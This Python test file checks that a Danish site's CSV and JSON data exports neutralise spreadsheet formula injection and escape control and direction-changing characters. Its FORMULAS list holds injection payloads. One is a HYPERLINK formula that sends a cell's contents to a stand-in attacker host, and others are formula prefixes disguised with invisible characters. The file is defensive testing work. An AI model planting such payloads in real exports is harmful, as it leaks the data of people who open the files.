"""Open data a spreadsheet can open safely: no CSV cell starts a formula, whatever field or nesting a
hostile value sits in; no raw control or direction-changing character in the CSV or the JSON."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
import unicodedata

import pytest

from helpers import CASE_BODY, METHOD_BODY, VALID_CASE, VALID_METHOD, make_doc
from toolbox import export, model

SITE = "https://example.dk/"

# What spreadsheets run as a formula, and the disguises: leading whitespace some of them strip,
# full-width and small forms, the minus sign, an invisible or direction-changing character first.
FORMULAS = [
    '=HYPERLINK("https://angriber.example/?d="&A1,"Klik her")',
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\ufe661+1", "\ufe621+1", "\u2212 1+1",
    "\u00ad=1+1", "\u200b=1+1", "\u202e=1+1", "\u2066=1+1",
]

# Characters that must not stand raw in either file: C0 (except tab and line break), DEL, C1,
# bidirectional controls, zero-width characters and the BOM.
UNSAFE = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\r", "\x1b", "\x1c", "\x1e", "\x7f", "\x85", "\x9b",
          "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
          "\u061c", "\u200e", "\u200f", "\u200b", "\u200d", "\u2060", "\ufeff"]


def _set(meta: dict, path: tuple, value) -> dict:
    """A copy of the front matter with the value at `path` (keys and list indexes) replaced."""
    meta = copy.deepcopy(meta)
    target = meta
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return meta


# (content type, where the value goes, the CSV column it ends up in). Every field kind is here,
# at the start of its cell and further in (after '; ' or after a dict's first value).
PLACES = [
    ("method", ("title",), "title"),                                 # line
    ("method", ("description",), "description"),
    ("method", ("preparation",), "preparation"),                     # text
    ("method", ("materials", 0), "materials"),                       # lines, first item
    ("method", ("materials",), "materials"),                         # lines, a later item
    ("method", ("sources", 0, "title"), "sources"),                  # sources[].title
    ("method", ("sources",), "sources"),                             # a later source
    ("method", ("tags", 0), "tags"),                                 # tags
    ("method", ("related",), "related"),                             # slugs
    ("method", ("approaches", 0), "approaches"),                     # terms
    ("method", ("difficulty",), "difficulty"),                       # term
    ("method", ("duration", "min"), "duration_min"),                 # range
    ("method", ("participants", "max"), "participants_max"),
    ("case", ("municipality",), "municipality"),
    ("case", ("year",), "year"),                                     # year
    ("case", ("methods", 0), "methods"),
    ("case", ("roles", 0), "roles"),
    ("case", ("results", 0), "results"),
    ("case", ("source", "organisation"), "source"),                  # source.organisation
    ("case", ("source", "document"), "source"),                      # second value of the dict
    ("case", ("source",), "source"),                                 # organisation empty
    ("case", ("contact",), "contact"),
    ("case", ("tags", 0), "tags"),
]


def _place(meta: dict, path: tuple, value) -> dict:
    """The front matter with `value` at the place; the list and dict places get it in a later spot."""
    if path == ("materials",):
        return _set(meta, path, ["Papir", value])
    if path == ("sources",):
        return _set(meta, path, [{"title": "Almen praksis"}, {"title": value, "url": "https://a.dk/"}])
    if path == ("related",):
        return _set(meta, path, [value, "world-cafe"])
    if path == ("source",):
        return _set(meta, path, {"organisation": "", "document": value})
    return _set(meta, path, value)


def doc_with(kind: str, path: tuple, value):
    """A document read through the loader, as from a file, with `value` at `path`.

    The front matter is then set to exactly what was meant: YAML reads some characters differently
    (NEL becomes a space), and the export must be safe whatever reaches it.
    """
    if kind == "method":
        meta = _place(VALID_METHOD, path, value)
        doc = make_doc(meta, METHOD_BODY, "method")
    else:
        meta = _place(VALID_CASE, path, value)
        doc = make_doc(meta, CASE_BODY, "case")
    return dataclasses.replace(doc, meta=meta)


def ctype_of(kind: str) -> model.ContentType:
    return model.METHOD if kind == "method" else model.CASE


def starts_formula(cell: str) -> bool:
    """The test's own reading of a cell as a spreadsheet would: a leading tab or CR, or a formula
    sign (or a compatibility form of one) after any whitespace and invisible format characters."""
    if cell[:1] in ("\t", "\r"):
        return True
    for ch in cell:
        if ch.isspace() or unicodedata.category(ch) in ("Cf", "Cc", "Zs"):
            continue
        return ch == "\u2212" or unicodedata.normalize("NFKC", ch)[:1] in "=+-@"
    return False


def visible(value):
    """The value with each character of UNSAFE written as [U+XXXX], at any depth."""
    if isinstance(value, str):
        return "".join(f"[U+{ord(ch):04X}]" if ch in UNSAFE else ch for ch in value)
    if isinstance(value, list):
        return [visible(v) for v in value]
    if isinstance(value, dict):
        return {k: visible(v) for k, v in value.items()}
    return value


def rows(text: str) -> list[list[str]]:
    """The CSV as a spreadsheet import reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("kind, path, column", PLACES, ids=lambda p: "-".join(map(str, p)) if isinstance(p, tuple) else p)
@pytest.mark.parametrize("payload", FORMULAS, ids=ascii)
def test_no_csv_cell_starts_a_formula(kind, path, column, payload):
    doc = doc_with(kind, path, payload)
    table = rows(export.to_csv([doc], ctype_of(kind), SITE))
    header, row = table
    assert header == export.columns(ctype_of(kind)) and len(row) == len(header)
    for name, cell in zip(header, row):
        assert not starts_formula(cell), (name, cell)
    cell = row[header.index(column)]
    assert payload[1:].lstrip() in cell                          # the value is there, not dropped


@pytest.mark.parametrize("value", ["=1+1", "\u202e=1+1", "＝1+1"], ids=ascii)
def test_a_formula_at_any_depth_is_guarded(value):
    doc = doc_with("method", ("title",), "Titel")
    for nested in ([[value]], [{"a": [{"b": value}]}], {"x": {"y": [value, "z"]}}, [["", value]]):
        hostile = dataclasses.replace(doc, meta={**doc.meta, "title": nested})
        header, row = rows(export.to_csv([hostile], model.METHOD, SITE))
        assert all(not starts_formula(cell) for cell in row), row


@pytest.mark.parametrize("value", ["Fremtidsværksted", "3-2-1-metoden", "E-mail; =ikke først", "'citeret",
                                   "Ældre borgere", "2020", "(parentes) =senere", "«Citat» +1"], ids=ascii)
def test_a_harmless_cell_is_written_as_it_is(value):
    doc = doc_with("case", ("title",), value)
    header, row = rows(export.to_csv([doc], model.CASE, SITE))
    assert row[header.index("title")] == value


def test_a_guarded_cell_keeps_its_text_after_the_apostrophe():
    doc = doc_with("case", ("source", "organisation"), "=Køge Kommune")
    header, row = rows(export.to_csv([doc], model.CASE, SITE))
    assert row[header.index("source")] == "'=Køge Kommune Nyhedsbrev"
    doc = doc_with("method", ("materials", 0), "-Papir")
    header, row = rows(export.to_csv([doc], model.METHOD, SITE))
    assert row[header.index("materials")] == "'-Papir"


@pytest.mark.parametrize("kind, path, column", PLACES, ids=lambda p: "-".join(map(str, p)) if isinstance(p, tuple) else p)
@pytest.mark.parametrize("char", UNSAFE, ids=lambda c: f"U+{ord(c):04X}")
def test_control_and_direction_characters_are_escaped_in_both_files(kind, path, column, char):
    value = f"før{char}efter"
    doc = doc_with(kind, path, value)
    marker = f"[U+{ord(char):04X}]"
    csv_text = export.to_csv([doc], ctype_of(kind), SITE)
    json_text = export.to_json([doc], SITE)
    assert char not in csv_text and char not in json_text
    header, row = rows(csv_text)
    assert f"før{marker}efter" in row[header.index(column)]
    assert all(char not in cell for cell in row)
    (record,) = json.loads(json_text)
    decoded = json.dumps(record, ensure_ascii=False)             # every string value, at any depth
    assert char not in decoded and f"før{marker}efter" in decoded


def test_line_breaks_and_tabs_stay_as_they_are():
    value = "Første linje\nAnden linje\tmed tabulator"
    doc = doc_with("method", ("preparation",), value)
    header, row = rows(export.to_csv([doc], model.METHOD, SITE))
    assert row[header.index("preparation")] == value
    assert json.loads(export.to_json([doc], SITE))[0]["preparation"] == value


def test_line_and_paragraph_separators_are_json_escapes_with_the_value_unchanged():
    value = "første\u2028anden\u2029tredje"
    doc = doc_with("case", ("results", 0), value)
    text = export.to_json([doc, doc_with("method", ("title",), "B")], SITE)
    assert "\u2028" not in text and "\u2029" not in text and "\\u2028" in text
    assert len(text.splitlines()) == 4                           # '[', one line per record, ']'
    assert json.loads(text)[0]["results"][0] == value


@pytest.mark.parametrize("payload", FORMULAS + ["før\u202eefter"], ids=ascii)
def test_json_round_trips_and_keeps_its_shape(payload):
    for kind, path in (("method", ("sources", 0, "title")), ("case", ("source", "organisation")),
                       ("case", ("tags", 0)), ("method", ("title",))):
        doc = doc_with(kind, path, payload)
        (record,) = json.loads(export.to_json([doc], SITE))
        expected = {"slug": doc.slug, "url": SITE + doc.url,
                    **{f.name: doc.meta[f.name] for f in doc.ctype.fields if f.name in doc.meta}}
        assert list(record) == list(expected)                    # keys in the model's order
        assert record == visible(expected)                       # formulas are data in JSON: kept exactly


def test_the_csv_columns_are_unchanged():
    assert export.columns(model.METHOD) == [
        "slug", "url", "title", "description", "kind", "levels", "approaches", "phases", "duration_min",
        "duration_max", "participants_min", "participants_max", "audiences", "areas", "difficulty", "materials",
        "preparation", "steps", "not_when", "variations", "worksheets", "related", "sources", "tags",
        "former_slugs"]   # added last: a reader that takes columns by position reads the others as before
    assert export.columns(model.CASE) == [
        "slug", "url", "title", "description", "municipality", "year", "areas", "methods", "approach",
        "roles", "results", "source", "contact", "tags"]
    doc = make_doc(VALID_CASE, CASE_BODY, "case")
    header, row = rows(export.to_csv([doc], model.CASE, SITE))
    assert dict(zip(header, row)) == {
        "slug": "koege-testcase", "url": SITE + "cases/koege-testcase/", "title": "Testcase",
        "description": "En case til test.", "municipality": "Køge", "year": "2020", "areas": "sundhed",
        "methods": "testmetode", "approach": "inddragelse", "roles": "En sundhedskonsulent",
        "results": "Et netværk", "source": "Køge Kommune Nyhedsbrev", "contact": "Center for Borgerdialog",
        "tags": "ældre"}
